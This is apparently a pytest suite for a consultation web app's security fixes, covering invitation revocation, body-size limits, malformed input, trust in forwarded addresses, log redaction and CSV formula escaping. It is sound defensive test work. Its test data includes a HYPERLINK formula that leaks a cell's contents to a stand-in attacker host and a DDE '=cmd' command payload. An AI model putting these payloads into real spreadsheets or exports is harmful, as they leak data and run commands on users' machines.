"""Issue 18 (consultation part): each test reproduces one reported defect of the consultation app.

Re-invitation and revocation, request-body limits and the order of authentication and parsing, comment
withdrawal and keyword anonymity, malformed input (ids, numbers, NaN, surrogates, NUL), forwarded client
addresses, the access log, exports of missing rounds and CSV formula injection. Tests parametrised on
``db_url`` run on SQLite and PostgreSQL.
"""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest

import app_fixtures as fx
from app_fixtures import (
    FAC,
    Server,
    World,
    bearer,
    create_consultation,
    csrf_of,
    invite,
    join,
    make_world,
    submission,
    web_facilitator,
    web_participant,
)

db_url = fx.db_url
pg_server = fx.pg_server

SMALL_LIMIT = 64_000


def lenient(w: World, **kwargs: Any) -> Any:
    """A client that returns a server error as a 500 response instead of raising it."""
    from fastapi.testclient import TestClient

    return TestClient(w.app, follow_redirects=False, raise_server_exceptions=False, **kwargs)


def audit_log(c: Any) -> list[dict[str, Any]]:
    r = c.get("/api/audit-log", headers=FAC)
    assert r.status_code == 200, r.text
    return r.json()


# ------------------------------------------------------------------------------------ invitations
def test_reinvitation_revokes_the_earlier_link(db_url: str) -> None:
    """Re-invited (link T2), the participant accepts and answers; the old link T1 must then be useless."""
    w = make_world(db_url)
    c = w.client()
    first = invite(c, w.a, "lep", "Person")
    pid, t1 = first["participant_id"], first["invitation_token"]
    again = c.post(f"/api/consultations/{w.a}/participants/{pid}/invitations", json={"days": 3}, headers=FAC)
    assert again.status_code == 201, again.text
    t2 = again.json()["invitation_token"]
    real = c.post("/api/invitations/accept", json={"token": t2})
    assert real.status_code == 200, real.text
    tok = real.json()["api_token"]
    body = submission(w.themes_a, [5, 4, 3], comments=[{"theme_id": w.themes_a[0], "text": "my own view"}])
    assert c.post(f"/api/consultations/{w.a}/submissions", json=body, headers=bearer(tok)).status_code == 201
    # whoever holds T1 can neither accept it (API or browser) nor see the confirmation page
    assert c.post("/api/invitations/accept", json={"token": t1}).status_code == 401
    assert c.get(f"/invite/{t1}").status_code == 401
    anon = w.client()
    anon_csrf = csrf_of(anon.get("/login").text)
    assert anon.post(f"/invite/{t1}", data={"csrf_token": anon_csrf}).status_code == 401
    # so the real participant is not locked out and their answers are theirs
    me = c.get(f"/api/consultations/{w.a}/me?round=1", headers=bearer(tok))
    assert me.status_code == 200
    assert sorted(a["score"] for a in me.json()["scores"]) == [3, 4, 5]
    assert me.json()["comments"] == [{"theme_id": w.themes_a[0], "text": "my own view"}]
    # the audit log records the revocation and the acceptance (by the participant, with the address)
    log = audit_log(c)
    issued = [x for x in log if x["action"] == "issue_invitation" and x["detail"]["participant_id"] == pid]
    assert [x["detail"]["revoked_invitations"] for x in issued] == [1, 0]  # newest first
    accepted = [x for x in log if x["action"] == "accept_invitation" and x["detail"]["participant_id"] == pid]
    assert len(accepted) == 1
    assert (accepted[0]["actor"], accepted[0]["consultation_id"], accepted[0]["client"]) == (
        "participant", w.a, "testclient")


def test_revoke_route(db_url: str) -> None:
    w = make_world(db_url)
    c = w.client()
    pending = c.post(f"/api/consultations/{w.a}/participants/{w.pid_a}/invitations", json={"days": 1},
                     headers=FAC).json()["invitation_token"]
    url = f"/api/consultations/{w.a}/participants/{w.pid_a}/revoke"
    assert c.post(url).status_code == 401
    assert c.post(url, headers=bearer(w.tok_a)).status_code == 403
    assert c.post(f"/api/consultations/{w.b}/participants/{w.pid_a}/revoke", headers=FAC).status_code == 404
    r = c.post(url, headers=FAC)
    assert r.status_code == 200, r.text
    # the participant's one pending link, and the session and API token of their acceptance
    assert r.json() == {"participant_id": w.pid_a, "revoked_invitations": 1, "revoked_credentials": 2}
    assert c.get(f"/api/consultations/{w.a}", headers=bearer(w.tok_a)).status_code == 401
    assert c.post("/api/invitations/accept", json={"token": pending}).status_code == 401
    assert c.post(url, headers=FAC).json()["revoked_credentials"] == 0  # idempotent
    # a new invitation lets the participant back in
    back = c.post(f"/api/consultations/{w.a}/participants/{w.pid_a}/invitations", json={"days": 1},
                  headers=FAC).json()["invitation_token"]
    assert c.post("/api/invitations/accept", json={"token": back}).status_code == 200
    revoked = [x for x in audit_log(c) if x["action"] == "revoke_access"]
    assert revoked and revoked[-1]["detail"] == {"participant_id": w.pid_a, "revoked_invitations": 1,
                                                 "revoked_credentials": 2}
    # the facilitator pages: re-invite and revoke buttons per participant
    part, _ = web_participant(w, w.a, label="Web person")
    pid = next(p["id"] for p in c.get(f"/api/consultations/{w.a}/participants", headers=FAC).json()
               if p["label"] == "Web person")
    fac, fcsrf = web_facilitator(w)
    page = fac.get(f"/facilitator/c/{w.a}").text
    assert f'action="/facilitator/c/{w.a}/participants/{pid}/revoke"' in page
    assert f'action="/facilitator/c/{w.a}/participants/{pid}/invitations"' in page
    assert fac.post(f"/facilitator/c/{w.a}/participants/{pid}/revoke", data={}).status_code == 403  # CSRF
    assert part.get(f"/c/{w.a}").status_code == 200
    assert fac.post(f"/facilitator/c/{w.a}/participants/{pid}/revoke", data={"csrf_token": fcsrf}).status_code == 303
    assert part.get(f"/c/{w.a}").status_code == 401
    reinvited = fac.post(f"/facilitator/c/{w.a}/participants/{pid}/invitations", data={"csrf_token": fcsrf,
                                                                                       "days": "2"})
    assert reinvited.status_code == 201 and 'id="invitation-url"' in reinvited.text


# ------------------------------------------------------------------------------------ request bodies
def test_oversize_body_is_refused_before_it_is_read(tmp_path: Path) -> None:
    w = make_world(f"sqlite:///{tmp_path / 'big.db'}", max_body_bytes=SMALL_LIMIT)
    c = lenient(w)
    url = f"/api/consultations/{w.a}/submissions"
    big = b'{"submission_id": "' + b"A" * 3_000_000 + b'"}'
    for headers in ({}, bearer("wrong"), bearer(w.tok_a), FAC):
        r = c.post(url, content=big, headers={**headers, "content-type": "application/json"})
        assert r.status_code == 413, r.text[:200]
        assert len(r.content) < 300 and b"AAAA" not in r.content
        assert str(SMALL_LIMIT) in r.json()["detail"]
    part, token = web_participant(w, w.a)
    r = part.post(f"/c/{w.a}/submit", data={"csrf_token": token, f"comment-{w.themes_a[0]}": "B" * 3_000_000})
    assert r.status_code == 413 and b"BBBB" not in r.content
    # an ordinary request still passes, and the health check answers
    assert c.post(url, json=submission(w.themes_a, [1, 2, 3]), headers=bearer(w.tok_a)).status_code == 201
    assert c.get("/api/health").json() == {"status": "ok"}
    # end points that only take small bodies have a smaller limit than the default
    d = lenient(make_world(f"sqlite:///{tmp_path / 'default.db'}"))
    r = d.post("/api/invitations/accept", content=b'{"token": "' + b"t" * 200_000 + b'"}',
               headers={"content-type": "application/json"})
    assert r.status_code == 413
    login = d.post("/login", data={"csrf_token": "x", "token": "y" * 200_000})
    assert login.status_code == 413


def test_streamed_body_without_length_is_cut_off(tmp_path: Path) -> None:
    """A chunked body (no Content-Length) is read only up to the limit, then refused."""
    w = make_world(f"sqlite:///{tmp_path / 'stream.db'}", max_body_bytes=SMALL_LIMIT)
    chunk = b"x" * 16_384
    pulled = 0

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        if pulled > 400:  # 6.5 MB offered in all
            return {"type": "http.disconnect"}
        return {"type": "http.request", "body": chunk, "more_body": True}

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    for auth in (bearer(w.tok_a), {}):
        pulled, sent[:] = 0, []
        headers = [(k.lower().encode(), v.encode()) for k, v in auth.items()]
        scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
                 "scheme": "http", "path": f"/api/consultations/{w.a}/submissions",
                 "raw_path": f"/api/consultations/{w.a}/submissions".encode(), "query_string": b"",
                 "root_path": "", "client": ("127.0.0.1", 5000), "server": ("testserver", 80),
                 "headers": [(b"host", b"testserver"), (b"content-type", b"application/json"),
                             (b"transfer-encoding", b"chunked"), *headers]}
        asyncio.run(w.app(scope, receive, send))
        start = next(m for m in sent if m["type"] == "http.response.start")
        expected = 413 if auth else 401  # anonymous: refused before a byte of the body is read
        assert start["status"] == expected
        assert pulled <= SMALL_LIMIT // len(chunk) + 2
        body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
        assert len(body) < 300


def test_token_is_checked_before_the_body_is_parsed(tmp_path: Path) -> None:
    w = make_world(f"sqlite:///{tmp_path / 'order.db'}")
    c = lenient(w)
    url = f"/api/consultations/{w.a}/submissions"
    js = {"content-type": "application/json"}
    assert c.post(url, content=b"{not json", headers=js).status_code == 401
    assert c.post(url, json={"scores": "nonsense"}).status_code == 401
    assert c.post(url, content=b"{not json", headers={**js, **bearer("wrong-token")}).status_code == 401
    # a participant posting to a facilitator end point: 403, whatever the body
    assert c.post("/api/consultations", content=b"{not json", headers={**js, **bearer(w.tok_a)}).status_code == 403
    assert c.post(f"/api/consultations/{w.a}/participants", content=b"[", headers={**js, **bearer(w.tok_a)}
                  ).status_code == 403
    # with the right credential the same body is a 422
    assert c.post(url, content=b"{not json", headers={**js, **bearer(w.tok_a)}).status_code == 422
    # the body schemas are still documented
    spec = c.get("/openapi.json").json()
    body = spec["paths"]["/api/consultations/{cid}/submissions"]["post"]["requestBody"]
    ref = body["content"]["application/json"]["schema"]["$ref"].rsplit("/", 1)[-1]
    assert "scores" in spec["components"]["schemas"][ref]["properties"]
    assert "ScoreIn" in spec["components"]["schemas"]


def test_errors_do_not_echo_the_input(tmp_path: Path) -> None:
    w = make_world(f"sqlite:///{tmp_path / 'echo.db'}")
    c = lenient(w)
    m = "ECHO" * 5000
    a = w.a
    cases = [
        ("POST", f"/api/consultations/{a}/submissions", bearer(w.tok_a), {"submission_id": m}),
        ("POST", f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         {"submission_id": str(uuid.uuid4()), "scores": [{"theme_id": m, "criterion": "strength", "score": 1}]}),
        ("POST", f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         {"submission_id": str(uuid.uuid4()), "comments": [{"theme_id": w.themes_a[0], "text": m}]}),
        ("POST", "/api/consultations", FAC, {"title": m, "themes": [{"name": m}]}),
        ("POST", f"/api/consultations/{a}/participants", FAC, {"label": "x", "org_type": m}),
        ("POST", f"/api/consultations/{a}/participants/{w.pid_a}/invitations", FAC, {"days": m}),
        ("POST", "/api/invitations/accept", {}, {"token": m}),
        ("GET", f"/api/consultations/{m[:400]}", FAC, None),
        ("GET", f"/api/consultations/{a}/results?round={m[:400]}", FAC, None),
    ]
    for method, path, headers, body in cases:
        r = c.request(method, path, json=body, headers=headers)
        assert r.status_code == 422, (path, r.status_code, r.text[:200])
        assert "ECHOECHO" not in r.text and len(r.content) < 1000, (path, r.text[:300])
    # the same on the HTML pages
    part, token = web_participant(w, a)
    r = part.post(f"/c/{a}/submit", data={"csrf_token": token, "submission_id": m})
    assert r.status_code == 422 and "ECHOECHO" not in r.text


# ------------------------------------------------------------------------------------ comments
def test_participant_can_withdraw_a_comment(db_url: str) -> None:
    w = make_world(db_url, feedback_min_n=1)
    c = w.client()
    t, h = w.themes_a, bearer(w.tok_a)
    url = f"/api/consultations/{w.a}/submissions"
    body = submission(t, [3, 3, 3], comments=[{"theme_id": t[0], "text": "regret this"},
                                             {"theme_id": t[1], "text": "keep this"}])
    assert c.post(url, json=body, headers=h).status_code == 201
    # an empty comment withdraws the earlier one; a theme left out keeps its comment
    r = c.post(url, json={"submission_id": str(uuid.uuid4()), "comments": [{"theme_id": t[0], "text": "  "}]},
               headers=h)
    assert r.status_code == 201, r.text
    assert r.json()["stored"] == {"scores": 0, "comments": 0, "comments_withdrawn": 1, "proposals": 0}
    me = c.get(f"/api/consultations/{w.a}/me?round=1", headers=h).json()
    assert me["comments"] == [{"theme_id": t[1], "text": "keep this"}]
    assert sorted(x["score"] for x in me["scores"]) == [3, 3, 3]
    # in the browser, clearing the text box withdraws the comment
    part, token = web_participant(w, w.a)
    form = {"csrf_token": token, f"comment-{t[2]}": "web words", "submission_id": str(uuid.uuid4())}
    assert part.post(f"/c/{w.a}/submit", data=form).status_code == 303
    assert "web words" in part.get(f"/c/{w.a}").text
    form = {"csrf_token": token, f"comment-{t[2]}": "", "submission_id": str(uuid.uuid4())}
    assert part.post(f"/c/{w.a}/submit", data=form).status_code == 303
    assert "web words" not in part.get(f"/c/{w.a}").text
    # others see only what is left
    assert c.post(f"/api/consultations/{w.a}/rounds/close", headers=FAC).status_code == 200
    _, other = join(c, w.a)
    fb = c.get(f"/api/consultations/{w.a}/feedback?round=1", headers=bearer(other)).json()
    shown = [x for th in fb["themes"] for x in th["comments"]]
    assert shown == ["keep this"]


def test_keywords_come_only_from_comments_that_are_shown(db_url: str) -> None:
    w = make_world(db_url)  # comments of a theme are shown from 3 on
    c = w.client()
    t = w.themes_a
    texts = ["hydrogen valley firms", "hydrogen skills gap"]
    for text in texts:
        _, tok = join(c, w.a)
        body = submission(t, [2, 3, 4], comments=[{"theme_id": t[0], "text": text}])
        assert c.post(f"/api/consultations/{w.a}/submissions", json=body, headers=bearer(tok)).status_code == 201
    assert c.post(f"/api/consultations/{w.a}/rounds/close", headers=FAC).status_code == 200
    assert c.post(f"/api/consultations/{w.a}/rounds", headers=FAC).status_code == 201
    fb = c.get(f"/api/consultations/{w.a}/feedback?round=1", headers=bearer(w.tok_a)).json()
    theme = fb["themes"][0]
    assert theme["comments"] == [] and theme["comments_withheld"] == 2
    assert theme["keywords"] == []
    part, _ = web_participant(w, w.a)
    assert "hydrogen" not in part.get(f"/c/{w.a}").text
    # the facilitator still sees both comments and their keywords
    fac = c.get(f"/api/consultations/{w.a}/feedback?round=1", headers=FAC).json()["themes"][0]
    assert fac["comments"] == sorted(texts) and fac["keywords"] == [{"word": "hydrogen", "comments": 2}]


# ------------------------------------------------------------------------------------ malformed input
def test_malformed_input_is_a_clean_4xx(db_url: str) -> None:
    w = make_world(db_url)
    c = lenient(w)
    a, t0 = w.a, w.themes_a[0]

    def check(r: Any, what: str) -> None:
        assert 400 <= r.status_code < 500, (what, r.status_code, r.text[:300])
        if r.headers.get("content-type", "").startswith("application/json"):
            assert len(r.content) < 1000, (what, r.text[:300])

    for big in (2**31, 2**63, 10**30):
        for method, path in (("GET", f"/api/consultations/{big}"), ("GET", f"/api/consultations/{big}/results"),
                             ("GET", f"/api/consultations/{big}/export"), ("POST", f"/api/consultations/{big}/rounds"),
                             ("POST", f"/api/consultations/{a}/participants/{big}/invitations"),
                             ("POST", f"/api/consultations/{a}/participants/{big}/revoke")):
            check(c.request(method, path, headers=FAC), path)
        check(c.get(f"/api/consultations/{big}/me", headers=bearer(w.tok_a)), "me")
        check(c.post(f"/api/consultations/{a}/submissions", headers=bearer(w.tok_a), json=submission([big], [1])),
              "theme id")
    fac, fcsrf = web_facilitator(w)
    for big in (2**31, 2**63):
        check(fac.get(f"/facilitator/c/{big}"), "admin page")
        check(fac.get(f"/facilitator/c/{big}/export.csv"), "export page")

    # form fields: Unicode digits and numbers of more than 4,300 digits
    part, token = web_participant(w, a)
    long = "1" * 5000
    for key, value in ((f"score-{t0}-strength", "\u00b2"), (f"score-{t0}-strength", "\u0663"),
                       (f"score-{t0}-strength", long), ("score-\u00b2-strength", "3"),
                       ("score-\u0661-strength", "3"), (f"score-{long}-strength", "3"), ("round", "\u00b2"),
                       ("round", long), (f"comment-{long}", "x"), (f"comment-{t0}", "nul \x00 byte")):
        form = {"csrf_token": token, "submission_id": str(uuid.uuid4()), key: value}
        check(part.post(f"/c/{a}/submit", data=form), f"form {key[:20]}={value[:20]!r}")
    for days in ("\u0661\u0664", "\u00b2", long, "nan", "inf", "1e999"):
        check(fac.post(f"/facilitator/c/{a}/participants", data={"csrf_token": fcsrf, "label": "x",
                                                                 "org_type": "lep", "days": days}), f"days {days[:9]}")
    check(fac.post(f"/facilitator/c/{a}/participants", data={"csrf_token": fcsrf, "label": "a\x00b",
                                                             "org_type": "lep"}), "NUL label")
    csv_nul = ("themes.csv", b"theme,description\nA\x00B,x\n", "text/csv")
    check(fac.post("/facilitator/consultations", data={"csrf_token": fcsrf, "title": "t"},
                   files={"themes_file": csv_nul}), "NUL in themes CSV")
    check(fac.post("/facilitator/consultations", data={"csrf_token": fcsrf, "title": "t\x00"},
                   files={"themes_file": ("themes.csv", b"theme,description\nA,x\n", "text/csv")}), "NUL title")

    # JSON: NaN and infinities, huge numbers, lone surrogates, NUL characters
    js = {"content-type": "application/json"}
    sid = str(uuid.uuid4())
    raw = [
        ("/api/consultations", FAC, '{"title": "t", "themes": [{"name": "x", "data_score": NaN}]}'),
        ("/api/consultations", FAC, '{"title": "t", "themes": [{"name": "x", "data_score": 1e999}]}'),
        ("/api/consultations", FAC, '{"title": "t", "themes": [{"name": "x", "data_score": -Infinity}]}'),
        ("/api/consultations", FAC, '{"title": "t\\u0000", "themes": [{"name": "x"}]}'),
        ("/api/consultations", FAC, '{"title": "t", "themes": [{"name": "x", "description": "\\udc00"}]}'),
        ("/api/consultations", FAC, '{"title": "t", "themes": [{"name": "x", "data_score": LONG}]}'),
        (f"/api/consultations/{a}/participants/{w.pid_a}/invitations", FAC, '{"days": NaN}'),
        (f"/api/consultations/{a}/participants/{w.pid_a}/invitations", FAC, '{"days": LONG}'),
        (f"/api/consultations/{a}/participants", FAC, '{"label": "x", "org_type": "lep", "invitation_days": NaN}'),
        (f"/api/consultations/{a}/participants", FAC, '{"label": "\\ud800", "org_type": "lep"}'),
        (f"/api/consultations/{a}/participants", FAC, '{"label": "a\\u0000b", "org_type": "lep"}'),
        (f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         '{"submission_id": "SID", "scores": [{"theme_id": LONG, "criterion": "strength", "score": 1}]}'),
        (f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         '{"submission_id": "SID", "scores": [{"theme_id": T0, "criterion": "strength", "score": NaN}]}'),
        (f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         '{"submission_id": "SID", "comments": [{"theme_id": T0, "text": "a\\u0000b"}]}'),
        (f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         '{"submission_id": "SID", "comments": [{"theme_id": T0, "text": "\\ud83d"}]}'),
        (f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         '{"submission_id": "SID", "proposals": [{"name": "p\\u0000"}]}'),
        (f"/api/consultations/{a}/submissions", bearer(w.tok_a),
         '{"submission_id": "SID", "scores": [{"theme_id": "\\u0661", "criterion": "strength", "score": 1}]}'),
        ("/api/invitations/accept", {}, '{"token": "\\ud800"}'),
        ("/api/invitations/accept", {}, '{"token": "a\\u0000"}'),
    ]
    for path, headers, template in raw:
        body = template.replace("SID", sid).replace("LONG", long).replace("T0", str(t0))
        check(c.post(path, content=body.encode(), headers={**headers, **js}), f"{path} {template[:70]}")
    # nothing of it was stored
    assert c.get(f"/api/consultations/{a}/answers", headers=FAC).json() == []
    assert [x["id"] for x in c.get("/api/consultations", headers=FAC).json()] == [w.a, w.b]
    assert len(c.get(f"/api/consultations/{a}/participants", headers=FAC).json()) == 2
    assert c.get("/api/health").status_code == 200


# ------------------------------------------------------------------------------------ client address
def test_forwarded_for_is_trusted_only_from_configured_proxies(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from sia.app import create_app

    def attempts(client: Any, forwarded: list[str]) -> list[int]:
        return [client.post("/api/invitations/accept", json={"token": f"bad-{i}"},
                            headers={"X-Forwarded-For": f}).status_code for i, f in enumerate(forwarded)]

    def last_client(client: Any, cid: int, forwarded: str) -> str:
        assert client.post(f"/api/consultations/{cid}/rounds/close", headers={**FAC, "X-Forwarded-For": forwarded}
                           ).status_code == 200
        return next(x["client"] for x in audit_log(client) if x["action"] == "close_round")

    spoof = [f"198.51.100.{i}" for i in range(5)]
    # default: X-Forwarded-For is ignored, whoever sends it
    w = make_world(f"sqlite:///{tmp_path / 'x.db'}", rate_limit=(3.0, 0.001))
    c = TestClient(w.app, client=("127.0.0.1", 5000))
    assert attempts(c, spoof) == [401, 401, 401, 429, 429]
    assert last_client(c, w.a, "203.0.113.9") == "127.0.0.1"
    # a configured proxy: the address it forwards is the client (the rightmost hop it did not add itself)
    p = make_world(f"sqlite:///{tmp_path / 'p.db'}", rate_limit=(3.0, 0.001), trusted_proxies=["192.0.2.0/24"])
    via = TestClient(p.app, client=("192.0.2.10", 5000))
    assert attempts(via, spoof) == [401] * 5  # five different clients behind the proxy
    assert attempts(via, ["203.0.113.1, 198.51.100.200, 192.0.2.11"] * 4) == [401, 401, 401, 429]
    assert last_client(via, p.a, "203.0.113.1, 198.51.100.8") == "198.51.100.8"
    assert last_client(via, p.b, "not-an-address") == "192.0.2.10"
    # a peer that is not a configured proxy cannot forward
    direct = TestClient(p.app, client=("203.0.113.50", 5000))
    assert attempts(direct, spoof) == [401, 401, 401, 429, 429]
    with pytest.raises(ValueError, match="trusted proxy 'nonsense'"):
        create_app(f"sqlite:///{tmp_path / 'bad.db'}", fx.ADMIN, trusted_proxies=["nonsense"])


def test_serve_does_not_trust_forwarded_for_from_localhost(tmp_path: Path) -> None:
    def run(env: dict[str, str] | None) -> tuple[list[int], str]:
        server = Server(str(tmp_path / f"s{len(env or {})}.db"), env=env, rate=(3, 0.001)).start()
        try:
            codes = [httpx.post(server.base + "/api/invitations/accept", json={"token": f"bad-{i}"},
                                headers={"X-Forwarded-For": f"198.51.100.{i}"}).status_code for i in range(5)]
            r = httpx.post(server.base + "/api/consultations", json={"title": "t", "themes": [{"name": "x"}]},
                           headers={**FAC, "X-Forwarded-For": "203.0.113.9"})
            assert r.status_code == 201, r.text
            log = httpx.get(server.base + "/api/audit-log", headers=FAC).json()
            return codes, log[0]["client"]
        finally:
            server.stop()

    assert run(None) == ([401, 401, 401, 429, 429], "127.0.0.1")
    assert run({"SIA_TRUSTED_PROXIES": "127.0.0.1"}) == ([401] * 5, "203.0.113.9")


def test_serve_access_log(tmp_path: Path) -> None:
    log = tmp_path / "serve.log"
    server = Server(str(tmp_path / "a.db"), args=["--access-log"], log=log).start()
    try:
        assert httpx.get(server.base + "/api/health").status_code == 200
        assert httpx.get(server.base + "/invite/secret-invitation-token-123").status_code == 401
    finally:
        server.stop()
    text = log.read_text()
    assert '"GET /api/health HTTP/1.1" 200' in text
    assert '"GET /invite/<token> HTTP/1.1" 401' in text and "secret-invitation-token-123" not in text
    quiet_log = tmp_path / "quiet.log"
    quiet = Server(str(tmp_path / "q.db"), log=quiet_log).start()
    try:
        assert httpx.get(quiet.base + "/api/health").status_code == 200
    finally:
        quiet.stop()
    assert "GET /api/health" not in quiet_log.read_text()


# ------------------------------------------------------------------------------------ exports
def test_export_of_a_missing_round_is_404(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from sia.cli import app as cli

    db = tmp_path / "e.db"
    w = make_world(f"sqlite:///{db}")
    c = w.client()
    a = w.a
    for path in (f"/api/consultations/{a}/export?round=7", f"/api/consultations/{a}/export?format=parquet&round=7",
                 f"/api/consultations/{a}/results?round=7", f"/api/consultations/{a}/answers?round=7"):
        r = c.get(path, headers=FAC)
        assert r.status_code == 404 and r.json() == {"detail": f"round 7 not found in consultation {a}"}, path
    fac, _ = web_facilitator(w)
    assert fac.get(f"/facilitator/c/{a}/export.csv?round=7").status_code == 404
    assert fac.get(f"/facilitator/c/{a}/results?round=7").status_code == 404
    # round 1 exists (open, no answers yet): every theme x criterion with n = 0
    r = c.get(f"/api/consultations/{a}/export?round=1", headers=FAC)
    assert r.status_code == 200 and len(pd.read_csv(io.BytesIO(r.content))) == 9
    # a consultation without any round has nothing to export; its results page says so
    fresh = create_consultation(c, "Fresh")["id"]
    assert c.get(f"/api/consultations/{fresh}/export", headers=FAC).status_code == 404
    page = fac.get(f"/facilitator/c/{fresh}/results")
    assert page.status_code == 200 and "no round yet" in page.text
    res = CliRunner().invoke(cli, ["consultation", "export", "--database", str(db), "--consultation", str(a),
                                   "--round", "7", "-o", str(tmp_path / "x.csv")])
    assert res.exit_code == 2 and "round 7 not found" in res.output
    assert not (tmp_path / "x.csv").exists()


DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+SUM(1,2)", "-2+3", "@cmd", "'=quoted"]


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    from sia.app.export import csv_safe, read_export, write_export

    w = make_world(f"sqlite:///{tmp_path / 'csv.db'}")
    c = w.client()
    names = [*DANGEROUS, "Plain"]
    created = create_consultation(c, "=cmd|'/c calc'!A0", themes=[
        {"name": n, "codes": "=1+1" if i == 0 else "21", "data_score": float(i)} for i, n in enumerate(names)])
    cid = created["id"]
    assert c.post(f"/api/consultations/{cid}/rounds", headers=FAC).status_code == 201
    _, tok = join(c, cid)
    body = submission([t["id"] for t in created["themes"]], [1, 2, 3, 4, 5, 1])
    assert c.post(f"/api/consultations/{cid}/submissions", json=body, headers=bearer(tok)).status_code == 201
    fac, _ = web_facilitator(w)
    exports = [c.get(f"/api/consultations/{cid}/export?format=csv", headers=FAC).content,
               fac.get(f"/facilitator/c/{cid}/export.csv").content]
    db_df = pd.DataFrame(c.get(f"/api/consultations/{cid}/results", headers=FAC).json())
    path = write_export(db_df, tmp_path / "cli.csv")
    exports.append(path.read_bytes())
    for raw in exports:
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
        assert len(rows) == 6 * 3
        for row in rows:
            for col in ("consultation_title", "theme", "codes", "criterion"):
                assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, row[col])
        assert {r["theme"] for r in rows} == {"'" + n if n[0] in "=+-@'" else n for n in names}
        assert rows[0]["consultation_title"] == "'=cmd|'/c calc'!A0"
        # numbers stay numbers (a negative divergence is not text)
        assert any(float(r["divergence"]) < 0 for r in rows if r["divergence"])
    # read_export undoes the escape, so the names round-trip exactly
    back = read_export(path)
    assert set(back["theme"]) == set(names) and back["consultation_title"].iloc[0] == "=cmd|'/c calc'!A0"
    safe = csv_safe(pd.DataFrame({"x": ["\tTAB", "\rCR", "ok", None], "n": [-1, 2, 3, 4]}))
    assert safe["x"].tolist()[:3] == ["'\tTAB", "'\rCR", "ok"] and pd.isna(safe["x"].iloc[3])
    assert safe["n"].tolist() == [-1, 2, 3, 4]
